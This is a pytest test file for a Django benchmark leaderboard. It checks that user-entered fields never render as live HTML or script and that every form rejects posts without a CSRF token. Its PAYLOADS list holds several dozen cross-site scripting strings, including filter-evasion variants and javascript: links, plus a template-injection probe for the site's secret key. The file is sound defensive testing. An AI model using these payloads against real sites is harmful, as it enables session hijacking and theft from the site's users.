"""Text that wants to be markup: every payload in every field that people fill in, on every page."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client
from django.urls import get_resolver

from gluebench.leaderboard.apps.audit.models import record
from gluebench.leaderboard.apps.benchmarks.models import Benchmark
from gluebench.leaderboard.apps.common.text import markdown
from gluebench.leaderboard.apps.similarity.models import Comparison
from gluebench.leaderboard.apps.submissions.models import Revision, Submission, new_key

Send = Callable[..., Submission]
MARK = "zq9"
"""Stands in every payload; a tag, an attribute or a script that holds it came from a person."""

SCRIPT = f"alert('{MARK}')"
PAYLOADS = [
    f"<script>{SCRIPT}</script>",
    f"<ScRiPt>{SCRIPT}</sCrIpT>",
    f"<script src=//example.org/{MARK}.js></script>",
    f"</title><script>{SCRIPT}</script>",
    f"</textarea><script>{SCRIPT}</script>",
    f"</style><script>{SCRIPT}</script>",
    f"--><script>{SCRIPT}</script><!--",
    f"]]><script>{SCRIPT}</script>",
    f"<<script>{SCRIPT}//<</script>",
    f'"><script>{SCRIPT}</script>',
    f"'><script>{SCRIPT}</script>",
    f'" onmouseover="{SCRIPT}',
    f"' onfocus='{SCRIPT}' autofocus='",
    f"` onload=`{SCRIPT}",
    f"<img src=x onerror={SCRIPT}>",
    f"<img src=x:{MARK} onerror\n={SCRIPT}>",
    f"<svg onload={SCRIPT}>",
    f"<svg/onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={SCRIPT}>",
    f"<iframe src=javascript:{SCRIPT}></iframe>",
    f'<iframe srcdoc="<script>{SCRIPT}</script>">',
    f"<object data=javascript:{SCRIPT}>",
    f"<embed src=javascript:{SCRIPT}>",
    f"<base href=//example.org/{MARK}/>",
    f"<link rel=stylesheet href=//example.org/{MARK}.css>",
    f'<meta http-equiv="refresh" content="0;url=//example.org/{MARK}">',
    f"<form action=//example.org/{MARK}><input name=password>",
    f"<details open ontoggle={SCRIPT}>",
    f"<video><source onerror={SCRIPT}>",
    f"<body onload={SCRIPT}>",
    f"<style>@import '//example.org/{MARK}'</style>",
    f'<p style="background:url(//example.org/{MARK})">',
    f"<template><script>{SCRIPT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<a href=javascript:{SCRIPT}>x</a>",
    f"[x](javascript:{SCRIPT})",
    f"[x](JaVaScRiPt:{SCRIPT})",
    f"[x](java\tscript:{SCRIPT})",
    f"[x](&#106;avascript:{SCRIPT})",
    f"[x](data:text/html,<script>{SCRIPT}</script>)",
    f"[x](vbscript:{SCRIPT})",
    f'[x](https://example.org "{MARK}\' onclick={SCRIPT}")',
    f"![x](https://example.org/{MARK}.png)",
    f"<javascript:{SCRIPT}>",
    f"[x]: javascript:{SCRIPT}\n\n[x]",
    f'```{MARK}" onmouseover={SCRIPT}\nx\n```',
    "{{ settings.SECRET_KEY }}{% debug %}" + MARK,
]

TEXTS = ("name", "model", "team", "description", "training_data", "compute", "declined", "why", "failure")
KNOWN = {"html", "head", "body", "meta", "title", "link", "script", "main", "header", "footer", "nav", "form"}


class Live(HTMLParser):
    """Collects what a browser would run, fetch or follow because of a payload."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.inside = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.inside = tag
        values = {name: value or "" for name, value in attrs}
        if tag in {
            "img",
            "iframe",
            "object",
            "embed",
            "base",
            "style",
            "video",
            "source",
            "template",
            "math",
        }:
            self.found.append(f"<{tag}>")
        for name, value in values.items():
            if name.startswith("on") or name in ("style", "srcdoc", "ontoggle"):
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "action", "formaction", "data") and not safe_address(value):
                self.found.append(f"{tag} {name}={value}")
            if tag in KNOWN and MARK in value:
                self.found.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if self.inside in ("script", "style") and MARK in data:
            self.found.append(f"{self.inside}: {data}")

    def handle_endtag(self, tag: str) -> None:
        self.inside = ""


def safe_address(value: str) -> bool:
    scheme = re.match(r"[\s\x00-\x20]*([a-z][a-z0-9+.\s-]*):", value, re.IGNORECASE)
    return scheme is None or scheme[1].lower() in ("http", "https", "mailto")


LISTS = (
    "/",
    "/?view=training&intervals=1&rows=all",
    "/benchmarks/tiny/diagnostics/DX",
    "/benchmarks/tiny/submit",
)
ORGANIZE = "/benchmarks/tiny/organize"
OWN_LISTS = ("/submissions", ORGANIZE, f"{ORGANIZE}/log", f"{ORGANIZE}/alike")


@pytest.fixture
def hostile(graded: Send, tiny: Any, ada: Any, person: Any) -> tuple[list[Submission], Client]:
    """A graded submission for each payload, which stands in all its texts, past all forms; and its owner."""
    tiny.organizers.add(ada)
    template, other = graded(), graded(owner=person("other@example.org"))
    rows = [_with(Submission.objects.get(pk=template.pk), payload) for payload in PAYLOADS]
    rows = Submission.objects.bulk_create(rows)
    Revision.objects.bulk_create(
        Revision(submission=row, by=ada, changes={"name": [text, text]})
        for row, text in zip(rows, PAYLOADS, strict=True)
    )
    for row, text in zip(rows, PAYLOADS, strict=True):
        record(text[:40], actor=ada, benchmark=tiny, submission=row, reason=text, of=text)
    pairs = [[row.pk, other.pk, 1.0] for row in rows]
    Comparison.objects.create(benchmark=tiny, submissions=len(rows), pairs=pairs)
    Benchmark.objects.filter(pk=tiny.pk).touch()
    client = Client()
    client.force_login(ada)
    return rows, client


def _with(row: Submission, payload: str) -> Submission:
    row.pk, row.key, row.kind, row.verified = None, new_key(), "baseline", True
    for name in TEXTS:
        setattr(row, name, payload[:80] if name in ("name", "model", "team") else payload)
    row.link = row.paper = row.code = f"https://example.org/?{payload}"
    return row


def test_no_payload_comes_alive_on_any_page(hostile: tuple[list[Submission], Client]) -> None:
    rows, owner = hostile
    anybody = Client()
    for path in (*LISTS, *OWN_LISTS):
        page = owner.get(path).content.decode()
        assert not Live(page).found, path
        assert page.count(MARK) >= 30 or path.endswith("/submit"), "the payloads are there, as text"
    for row in rows:
        here = row.get_absolute_url()
        for client, path in (
            (anybody, f"{here}/detail"),
            (owner, here),
            (owner, f"{here}/edit"),
            (owner, f"{ORGANIZE}/submissions/{row.key}"),
        ):
            answer = client.get(path)
            assert answer.status_code == 200, path
            assert not Live(answer.content.decode()).found, (path, row.description)
        assert json.loads(owner.get(f"{here}.json").content)["name"] == row.name


def test_the_title_of_a_benchmark_whose_tasks_a_phase_uses_stays_text(
    graded: Send, tiny: Any, ada: Any, phase: Any
) -> None:
    tiny.organizers.add(ada)
    payload = f"<img src=x onerror={SCRIPT}>\"'"
    facts = {"manifest": tiny.manifest, "gold": tiny.gold, "gold_digest": tiny.gold_digest}
    other = Benchmark.objects.create(name="other", title=payload, **facts)
    other.organizers.add(ada)
    row = phase("Elsewhere", "2020-01-01 00:00", None, tasks_of=other)
    submission = graded()
    owner = Client()
    owner.force_login(ada)
    paths = ["/benchmarks/tiny", "/benchmarks/tiny/data", "/benchmarks/tiny/submit", f"{ORGANIZE}/phases"]
    paths += [f"{ORGANIZE}/phases/{row.pk}", "/benchmarks/tiny/tasks/Para", submission.get_absolute_url()]
    found = ""
    for path in paths:
        page = owner.get(path).content.decode()
        assert not Live(page).found, path
        found += page
    assert found.count(MARK) >= 5


def test_the_payloads_would_be_noticed() -> None:
    """The test can fail: unescaped, all but those that are Markdown or template code are found."""
    quiet = [each for each in PAYLOADS if not Live(f"<p title='x'>{each}").found]
    inside = [each for each in PAYLOADS if Live(f'<input value="{each}">').found]
    assert len(PAYLOADS) >= 40
    assert all(re.match(r"""[\["'`!{\]]|<javascript|<noscript|--|\[x\]:|`""", each) for each in quiet), quiet
    assert f'" onmouseover="{SCRIPT}' in inside


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_gives_nothing_live(payload: str) -> None:
    assert not Live(markdown(payload)).found


def everything_that_can_be_posted() -> list[str]:
    """Every address of the site, with something in each place; the API has tokens instead."""
    values = {"name": "tiny", "key": "KEY", "task": "DX", "code": "x", "pk": "1", "number": "1"}
    found = []
    for patterns, *_ in get_resolver().reverse_dict.values():  # type: ignore[misc]
        for pattern, names in patterns:
            if not pattern.startswith(("api/", "static/")):
                found.append("/" + pattern % {name: values.get(name, "x") for name in names})
    return sorted(set(found))


def test_no_form_is_taken_without_its_token(graded: Send, tiny: Any, ada: Any) -> None:
    submission = graded()
    tiny.organizers.add(ada)
    paths = [path.replace("KEY", submission.key) for path in everything_that_can_be_posted()]
    assert f"{submission.get_absolute_url()}/withdraw" in paths
    before = Submission.objects.values().get(pk=submission.pk)
    bare, foreign = Client(enforce_csrf_checks=True), Client(enforce_csrf_checks=True)
    for client in (bare, foreign):
        client.force_login(ada)
    foreign.cookies["csrftoken"] = "a" * 32
    for path in paths:
        if path in ("/healthz", "/readyz", "/metrics"):
            assert bare.post(path).status_code == 405, "they change nothing"
            continue
        if path.startswith("/unsubscribe/"):
            assert bare.post(path).status_code == 404, "mail programs post it; its signature is the token"
            continue
        assert bare.post(path).status_code == 403, path
        assert foreign.post(path, {"csrfmiddlewaretoken": "b" * 32}).status_code == 403, path
    assert Submission.objects.values().get(pk=submission.pk) == before
